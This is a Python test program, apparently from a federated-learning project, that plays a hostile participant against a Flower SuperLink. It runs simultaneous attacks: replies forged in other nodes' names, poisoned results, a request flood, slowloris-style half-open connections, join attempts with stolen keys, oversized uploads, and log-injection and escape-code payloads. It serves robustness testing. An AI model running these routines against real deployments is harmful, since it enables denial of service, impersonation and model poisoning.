"""What one participant can do at worst, all at once, for so many seconds. A program of its own.

It has a key of the federation, talks the plain Fleet protocol, and even knows what it cannot: the
names of the questions that others got. Arguments: a JSON object, see `Target`. It prints how often
each thing was tried and what was answered, as JSON.
"""

from __future__ import annotations

import json
import random
import socket
import sqlite3
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import closing, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import Error, Message
from flwr.common.serde import message_to_proto
from flwr.proto.fleet_pb2 import PullMessagesRequest, PushMessagesRequest
from flwr.proto.message_pb2 import PushObjectRequest

from tests.fleet_site import FleetSite, named

HALF_REQUESTS = 150
REASONS = (
    'x\n@@BLOSSOM {"round": 99999999999999999999999, "x": 1}',
    '@@BLOSSOM {"\\ud800": 1}',
    '@@BLOSSOM {"round": 1, "accuracy": 1.0, "site": "North"}',
    "x\nINFO :      [ROUND 99/99]\nINFO :      aggregate_train: Received 99 results and 0 failures",
    "x\nERROR:      North failed: KeyError: 'x'\x1b[2J",
    "y" * 100_000,
)


@dataclass(frozen=True)
class Target:
    """Where and who."""

    address: str
    ca: str
    key: str  # file with the private key
    database: str  # of the SuperLink
    seconds: float
    token: str  # of a kit
    others_key: str  # a public key of somebody else, OpenSSH


class Worst:
    """The threads of the attack."""

    def __init__(self, target: Target) -> None:
        self._target, self._dice = target, random.Random(5)
        self._until = time.monotonic() + target.seconds
        self._tls = ssl.create_default_context(cafile=target.ca)
        self._key = load_ssh_private_key(Path(target.key).read_bytes(), None)
        self.seen: Counter[str] = Counter()

    def run(self) -> None:
        """Everything at once until the time is up."""
        deeds = (self._answers, self._pulls, self._half_requests, self._joins, self._bodies)
        threads = [threading.Thread(target=self._again, args=(deed,)) for deed in deeds]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    @property
    def _goes_on(self) -> bool:
        return time.monotonic() < self._until

    def _again(self, deed: Callable[[], None]) -> None:
        while self._goes_on:
            try:
                deed()
            except Exception as error:  # noqa: BLE001 - an attacker goes on whatever happens
                self.seen[f"{deed.__name__} {type(error).__name__}"] += 1
                time.sleep(0.2)

    def _site(self) -> FleetSite:
        key: Any = self._key
        return FleetSite(self._target.address, Path(self._target.ca), key)

    def _try(self, what: str, call: Callable[[], object]) -> object:
        try:
            answer = call()
        except httpx.HTTPStatusError as error:
            self.seen[f"{what} {error.response.status_code}"] += 1
            return None
        self.seen[f"{what} taken"] += 1
        return answer

    def _answers(self) -> None:
        """Take part, and never say anything true."""
        with self._site() as site:
            while self._goes_on:
                if self._try("activate", site.activate):
                    break
                time.sleep(2)
            beat = time.monotonic()
            while self._goes_on:
                if time.monotonic() - beat > 10:
                    self._try("heartbeat", site.heartbeat)
                    beat = time.monotonic()
                question = self._try("pull", site.pull)
                if not isinstance(question, Message):
                    time.sleep(0.5)
                else:
                    self._lie(site, question)

    def _lie(self, site: FleetSite, question: Message) -> None:
        reply = site.reply(question, loss=-1e9)
        for name, node in self._questions(site.node.node_id):
            forged = site.announced(reply)
            metadata = forged.messages_list[0].metadata
            metadata.reply_to_message_id, metadata.src_node_id = name, node
            self._try("in another's name", lambda f=forged: site.client.PushMessages(f))  # type: ignore[misc]
            order = PushMessagesRequest(node=site.node)
            order.message_object_trees.add().object_id = reply.metadata.message_id
            order.messages_list.add().CopyFrom(message_to_proto(question))
            order.messages_list[0].metadata.message_id = reply.metadata.message_id
            order.messages_list[0].metadata.dst_node_id = node
            self._try("work for others", lambda o=order: site.client.PushMessages(o))  # type: ignore[misc]
        ends_soon = self._until - time.monotonic() < 20  # Flower itself awaits a rest for 180 s
        if ends_soon or self._dice.random() < 0.5:
            reason = self._dice.choice(REASONS)
            error = named(Message(Error(0, reason), reply_to=question))
            self._try("hostile reason", lambda: site.push(error))
        else:  # never sends the rest
            for _ in range(20):
                self._try("announced", lambda: site.client.PushMessages(site.announced(reply)))

    def _questions(self, mine: int) -> list[tuple[str, int]]:
        """What others were asked, and who."""
        with closing(sqlite3.connect(f"file:{self._target.database}?mode=ro", uri=True)) as base:
            rows = base.execute("SELECT message_id, dst_node_id FROM message_ins").fetchall()
        return [(name, node % 2**64) for name, node in rows if node % 2**64 != mine]

    def _pulls(self) -> None:
        """As many requests as one key can send, for a node that is not there."""
        with self._site() as site:
            site.node.node_id = 12345
            asked = PullMessagesRequest(node=site.node)
            while self._goes_on:
                self._try("flood", lambda: site.client.PullMessages(asked))
                time.sleep(0.005)

    def _half_requests(self) -> None:
        """Many connections without a key, each with one byte in a while."""
        host, port = self._target.address.rsplit(":", 1)
        lines: list[ssl.SSLSocket] = []
        while self._goes_on:
            with suppress(OSError):
                if len(lines) < HALF_REQUESTS:
                    raw = socket.create_connection((host, int(port)), timeout=5)
                    line = self._tls.wrap_socket(raw, server_hostname=host)
                    line.sendall(
                        b"POST /v1/fleet/pull-messages HTTP/1.1\r\nhost: x\r\n"
                        b"content-length: 1000\r\n\r\n"
                    )
                    lines.append(line)
                    self.seen["half request"] += 1
                    continue
            alive = []
            for line in lines:
                with suppress(OSError):
                    line.sendall(b"x")
                    alive.append(line)
            lines = alive
            time.sleep(1)
        for line in lines:
            line.close()

    def _joins(self) -> None:
        """Keys of others, reports and wrong tokens."""
        url = f"https://{self._target.address}/api/v1/join"
        with httpx.Client(verify=self._tls, trust_env=False, timeout=30) as client:
            report = {"token": self._target.token, "good": True, "checks": []}
            for path, content in (
                ("", {"token": self._target.token, "public_key": self._target.others_key}),
                ("", {"token": "wrong", "public_key": self._target.others_key, "proof": "x"}),
                ("/report", report),
            ):
                answer = client.post(f"{url}{path}", json=content)
                self.seen[f"join{path} {answer.status_code}"] += 1
                time.sleep(0.05)

    def _bodies(self) -> None:
        """Large pieces that nobody awaits."""
        with self._site() as site:
            piece = PushObjectRequest(
                node=site.node, run_id=1, object_id="a" * 64, object_content=bytes(20_000_000)
            )
            self._try("large", lambda: site.client.PushObject(piece))
            time.sleep(1)


if __name__ == "__main__":
    worst = Worst(Target(**json.loads(sys.argv[1])))
    worst.run()
    print(json.dumps(worst.seen))
